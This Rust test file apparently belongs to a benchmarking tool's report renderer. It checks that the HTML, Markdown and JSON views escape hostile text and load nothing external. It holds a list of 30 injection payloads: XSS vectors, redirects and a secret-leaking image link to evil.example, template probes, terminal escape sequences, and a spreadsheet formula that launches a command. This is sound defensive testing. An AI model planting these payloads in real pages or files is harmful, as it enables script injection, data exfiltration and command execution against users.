//! The views of a report: hostile text stays text, marks and figures match the JSON.

// Helpers of tests stop the test when the page is not what it must be.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use rehearsal::report::{
    MARKDOWN_LIMIT_BYTES, MARKDOWN_MARKER, Report, html, json, json_schema, markdown, schema_of,
};
use rehearsal::verdict::Verdict;
use serde_json::Value;

const FIXTURE: &str = include_str!("../../src/report/testing.json");

/// Payloads of the OWASP cheat sheets and of reports on terminals, templates and renderers.
const PAYLOADS: [&str; 30] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "--><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title></style></svg></textarea><b>",
    "\" autofocus onfocus=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<base href=//evil.example/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "]]><![CDATA[x",
    "{{7*7}}${7*7}{%if x%}<%=7*7%>#{7*7}",
    "![x](http://evil.example/?q=secret)",
    "[x](http://evil.example) http://evil.example www.evil.example",
    "<http://evil.example> a@evil.example",
    "@everyone fixes #12 GH-7 !9",
    "a | b \\| c || d",
    "``` `x` ~~~",
    "\n\n# heading\n\n- item\n\n<details>",
    "</details></details>\n\n| a |\n|---|",
    "\u{1b}]52;c;cm0gLXJm\u{7}\u{1b}[31m",
    "\u{9b}31m\u{90}q\u{9c}\u{0}",
    "\u{202e}OG\u{2066}-ON\u{2069}\u{200b}",
    "\u{2028}\u{2029}*/ x()//",
    "=cmd|' /C calc'!A0",
];

fn report() -> Report {
    serde_json::from_str(FIXTURE).expect("the fixture is a report")
}

/// The fixture with `payload` in every free text, map keys included, each made unique.
fn hostile(payload: &str) -> Report {
    let mut serial = 0;
    let filled = filled(&serde_json::from_str(FIXTURE).unwrap(), "", payload, &mut serial);
    assert!(serial > 150, "{serial} texts are filled");
    serde_json::from_value(filled).expect("every free text takes any text")
}

fn filled(value: &Value, key: &str, payload: &str, serial: &mut u32) -> Value {
    let mut text = || {
        *serial += 1;
        format!("f{serial}{payload}")
    };
    match value {
        // Closed sets and infinite numbers are no free text.
        Value::String(_)
            if ["decision", "outcome", "direction", "value", "low", "high"].contains(&key) =>
        {
            value.clone()
        }
        Value::String(_) => Value::String(text()),
        Value::Array(items) => {
            items.iter().map(|item| filled(item, key, payload, serial)).collect()
        }
        Value::Object(members) => {
            let is_map = ["models", "rejected", "excluded", "parameters"].contains(&key)
                || (key == "arms" && !members.contains_key("role"));
            let members = members.iter().map(|(name, member)| {
                let filled = filled(member, name, payload, serial);
                *serial += u32::from(is_map);
                (if is_map { format!("k{serial}{payload}") } else { name.clone() }, filled)
            });
            Value::Object(members.collect())
        }
        other => other.clone(),
    }
}

/// Tag and attribute names in order, by the rules of the HTML tokeniser that this page can meet.
fn structure(page: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        rest = &rest[start + 1..];
        let mut names = vec![taken(&mut rest, |c| !c.is_whitespace() && c != '>')];
        loop {
            rest = rest.trim_start();
            if let Some(after) = rest.strip_prefix('>') {
                rest = after;
                break;
            }
            names.push(taken(&mut rest, |c| !c.is_whitespace() && c != '=' && c != '>'));
            if let Some(after) = rest.strip_prefix("=\"") {
                rest = after;
                taken(&mut rest, |c| c != '"');
                rest = &rest[1..];
            }
            assert!(!rest.is_empty(), "a tag is not closed");
        }
        if let Some(raw) = ["script", "style"].into_iter().find(|raw| *raw == names[0]) {
            rest = &rest[rest.find(&format!("</{raw}")).expect("closed")..];
        }
        tags.push(names.join(" "));
    }
    tags
}

fn taken(rest: &mut &str, wanted: impl Fn(char) -> bool) -> String {
    let end = rest.find(|c| !wanted(c)).unwrap_or(rest.len());
    let (name, after) = rest.split_at(end);
    *rest = after;
    name.to_owned()
}

fn embedded(page: &str) -> Value {
    let marker = "<script type=\"application/json\" id=\"report-data\">";
    let data = page.split(marker).nth(1).unwrap().split("</script>").next().unwrap();
    serde_json::from_str(data).unwrap()
}

#[test]
fn hostile_text_adds_no_tag_and_no_attribute_to_the_page() {
    let plain = structure(&html(&hostile(" plain")).unwrap());
    assert!(plain.len() > 1000);
    for payload in PAYLOADS {
        let page = html(&hostile(payload)).unwrap();
        assert_eq!(structure(&page), plain, "{payload:?}");
        let unseen = |c: char| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        let visible = page.split("id=\"report-data\"").next().unwrap();
        let outside_attributes = without_data_attributes(visible);
        assert!(!outside_attributes.contains(unseen), "{payload:?}");
    }
}

/// `data-` attributes keep names as they are; nobody sees them.
fn without_data_attributes(page: &str) -> String {
    let mut pieces = page.split(" data-");
    let mut kept = pieces.next().unwrap_or_default().to_owned();
    for piece in pieces {
        kept.push_str(piece.splitn(3, '"').nth(2).unwrap_or_default());
    }
    kept
}

#[test]
fn hostile_text_adds_no_line_cell_link_or_mention_to_the_markdown() {
    let shape =
        |text: &str| -> Vec<usize> { text.lines().map(|line| line.matches('|').count()).collect() };
    let plain = markdown(&hostile(" plain"));
    for payload in PAYLOADS {
        let text = markdown(&hostile(payload));
        assert_eq!(shape(&text), shape(&plain), "{payload:?}");
        assert_eq!(text.matches('<').count(), plain.matches('<').count(), "{payload:?}");
        let outside_code = without_code(&text);
        for forbidden in ["](", "://", "@e", "#1", "GH-7", "www.e", "\u{1b}", "\u{202e}"] {
            assert!(!outside_code.contains(forbidden), "{payload:?} leaves {forbidden:?}");
        }
    }
}

/// The text without escaped characters and without code spans, in which renderers see no markup.
fn without_code(text: &str) -> String {
    let unescaped = text.replace("\\`", "").replace("\\]", "").replace("&#124;", "");
    unescaped
        .lines()
        .map(|line| line.split('`').step_by(2).collect::<Vec<_>>().join(" "))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn every_chart_has_as_many_marks_as_the_json_has_rows() {
    let page = html(&report()).unwrap();
    let data = embedded(&page);
    assert_eq!(data, serde_json::from_str::<Value>(&json(&report()).unwrap()).unwrap());
    let series = data["latency"].as_array().unwrap();
    let with = |key: &str| {
        series.iter().filter(|one| !one[key].is_null() && one[key] != Value::Array(vec![])).count()
    };
    let bills = data["cost"].as_array().unwrap();
    let marks = |class: &str| page.matches(&format!("class=\"mark {class}")).count();
    assert_eq!(marks("box"), with("box_plot"));
    assert_eq!(marks("ecdf"), with("ecdf"));
    assert_eq!(marks("error-bar"), data["errors_over_time"].as_array().unwrap().len());
    assert_eq!(marks("outage"), data["outages"].as_array().unwrap().len());
    assert_eq!(marks("cost-bar"), bills.iter().filter(|row| !row["monthly_usd"].is_null()).count());
    let steps = data["load"]["steps"].as_array().unwrap();
    let percentiles =
        |key: &str| -> usize { steps.iter().map(|step| step[key].as_array().unwrap().len()).sum() };
    assert_eq!(marks("load-point"), percentiles("latency") + percentiles("ttft"));
    assert_eq!(marks("load-error"), 2 * steps.len());
    let knees = data["load"]["knees"].as_array().unwrap();
    assert_eq!(marks("knee"), 2 * knees.len());
    assert_eq!(marks("interval"), data["verdict"]["criteria"].as_array().unwrap().len());
    for one in series.iter().filter(|one| !one["box_plot"].is_null()) {
        let [arm, model, measure] =
            ["arm", "model", "measure"].map(|key| one[key].as_str().unwrap());
        let named = format!("data-arm=\"{arm}\" data-model=\"{model}\" data-measure=\"{measure}\"");
        assert_eq!(page.matches(&named).count(), 2, "a box and a line for {named}");
    }
    assert_eq!(page.matches("<svg id=").count(), page.matches("<desc id=").count());
}

#[test]
fn every_figure_of_the_views_is_in_the_report() {
    let report = report();
    let mut known = Vec::new();
    collect(&serde_json::to_value(&report).unwrap(), &mut known);
    known.extend(derived(&report));
    let page = html(&report).unwrap();
    let body = page.split("<body>").nth(1).unwrap().split("<script").next().unwrap();
    for (view, text) in [("HTML", visible_text(body)), ("Markdown", markdown(&report))] {
        let printed = numbers(&text);
        assert!(printed.len() > 500, "{view}");
        for (token, value, half_step) in printed {
            let scales = [1.0, 100.0, 1e-3, 1e-9];
            let is_known = known.iter().any(|known| {
                scales.iter().any(|scale| (known * scale - value).abs() <= half_step * 1.0001)
            });
            assert!(is_known, "{view} prints {token}, which the report does not have");
        }
    }
}

/// Sums, shares and counts that the views work out, each from the report alone.
fn derived(report: &Report) -> Vec<f64> {
    let coverage = &report.verdict.coverage;
    let mut figures = vec![
        coverage.iter().map(|arm| arm.done).sum::<u64>() as f64,
        coverage.iter().map(|arm| arm.planned).sum::<u64>() as f64,
        report.capture.rejected.values().sum::<u64>() as f64,
    ];
    figures.extend(coverage.iter().map(|arm| arm.excluded.values().sum::<u64>() as f64));
    figures.extend(report.latency.iter().map(|one| 1.0 - one.failures as f64 / one.n as f64));
    for bucket in &report.errors_over_time {
        figures.push(bucket.start_s + bucket.width_s);
        figures.push(bucket.errors as f64 / bucket.attempts as f64);
    }
    // Counts of outcomes and of reasons, the levels that box plots are named by, and the words
    // "429", "SHA-256" and "100%" of our own sentences.
    figures.extend([0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 25.0, 75.0, 95.0, 20.0, 429.0, 256.0, 100.0]);
    figures
}

fn collect(value: &Value, known: &mut Vec<f64>) {
    match value {
        Value::Number(number) => known.extend(number.as_f64()),
        Value::String(text) => known.extend(numbers(text).into_iter().map(|(_, value, _)| value)),
        Value::Array(items) => items.iter().for_each(|item| collect(item, known)),
        Value::Object(members) => members.iter().for_each(|(name, member)| {
            known.extend(numbers(name).into_iter().map(|(_, value, _)| value));
            collect(member, known);
        }),
        _ => {}
    }
}

/// Text between tags; drawings are left out, their figures stand in the tables beneath.
fn visible_text(body: &str) -> String {
    let mut text = String::new();
    for (position, piece) in body.split("<svg").enumerate() {
        let outside = if position == 0 { piece } else { piece.split_once("</svg>").unwrap().1 };
        for run in outside.split('<') {
            text.push_str(run.split_once('>').map_or(run, |(_, after)| after));
            text.push(' ');
        }
    }
    text
}

/// Printed numbers: the token, its value and half a unit of its last digit. What only looks like a
/// number, such as a version, is a name.
fn numbers(text: &str) -> Vec<(String, f64, f64)> {
    let is_part = |c: char| c.is_ascii_digit() || matches!(c, '.' | ',' | '−');
    let tokens = text.split(|c| !is_part(c)).map(|token| token.trim_matches([',', '.']));
    let number = |token: &str| {
        let plain = token.replace(',', "").replace('−', "-");
        let decimals = plain.split_once('.').map_or(0, |(_, fraction)| fraction.len());
        let value = plain.parse().ok()?;
        Some((token.to_owned(), value, 0.5 * 10_f64.powi(-(decimals as i32))))
    };
    tokens.filter_map(number).collect()
}

#[test]
fn the_json_keeps_every_value_and_follows_its_schema() {
    let report = report();
    let text = json(&report).unwrap();
    assert!(text.ends_with("}\n"));
    assert_eq!(serde_json::from_str::<Report>(&text).unwrap(), report);
    let document: Value = serde_json::from_str(&text).unwrap();
    for (schema, document) in
        [(json_schema(), &document), (schema_of::<Verdict>(), &document["verdict"])]
    {
        let validator = jsonschema::validator_for(&schema).unwrap();
        validator.validate(document).unwrap();
        let mut altered = document.clone();
        altered["unheard_of"] = Value::Bool(true);
        assert!(!validator.is_valid(&altered));
    }
    for payload in PAYLOADS {
        let hostile = hostile(payload);
        assert_eq!(serde_json::from_str::<Report>(&json(&hostile).unwrap()).unwrap(), hostile);
        assert_eq!(
            serde_json::from_value::<Report>(embedded(&html(&hostile).unwrap())).unwrap(),
            hostile
        );
    }
}

#[test]
fn a_long_report_is_cut_to_a_comment_and_says_how_much_is_missing() {
    let mut long = report();
    let criterion = long.verdict.criteria[0].clone();
    long.verdict.criteria = vec![criterion; 3000];
    let row = long.error_classes[0].clone();
    long.error_classes = vec![row; 5000];
    let text = markdown(&long);
    assert!(text.len() <= MARKDOWN_LIMIT_BYTES && text.starts_with(MARKDOWN_MARKER));
    let gates = text.split("**Gates: these decide**").nth(1).unwrap();
    let (table, rest) = gates.split_once("\n\n_").unwrap();
    let missing = rest.split_once(" more rows are left out._").unwrap().0.replace(',', "");
    let shown = table.lines().filter(|line| line.starts_with("| ✓")).count();
    assert_eq!(shown + missing.parse::<usize>().unwrap(), 3000);

    let huge = markdown(&hostile(&"\u{202e}|<&".repeat(2_000)));
    assert!(huge.len() <= MARKDOWN_LIMIT_BYTES && huge.contains("INCONCLUSIVE"));
    let whole = markdown(&report());
    assert!(!whole.contains("left out"));
}

#[test]
fn the_page_names_its_policy_and_loads_nothing() {
    let page = html(&report()).unwrap();
    let policy = "default-src 'none'; script-src 'sha256-";
    assert_eq!(page.matches(policy).count(), 1);
    assert!(page.find(policy) < page.find("<style>"));
    let tags = structure(&page);
    let count = |name: &str| tags.iter().filter(|tag| tag.split(' ').next() == Some(name)).count();
    assert_eq!((count("script"), count("style"), count("link")), (2, 1, 1));
    assert_eq!(["img", "iframe", "object", "form", "base"].map(count), [0; 5]);
    assert!(
        !tags.iter().any(|tag| tag.split(' ').any(|name| name == "src" || name.starts_with("on")))
    );
    assert!(page.contains("<link rel=\"icon\" href=\"data:,\">"));
}

#[test]
fn verdict_and_its_symbol_stand_before_everything_else() {
    let (page, text) = (html(&report()).unwrap(), markdown(&report()));
    let word = page.find("<span id=\"decision\">INCONCLUSIVE</span>").unwrap();
    assert!(word < page.find("id=\"criteria\"").unwrap());
    assert!(text.lines().nth(1).unwrap().starts_with("## ? INCONCLUSIVE"));
    let (gates, advisory) =
        (page.find("id=\"gates\"").unwrap(), page.find("id=\"advisory\"").unwrap());
    assert!(
        gates < advisory && page.contains("Only advises: <bdi>the noise floor is unknown</bdi>")
    );
    assert!(text.contains("Only advises: the noise floor is unknown"));
}
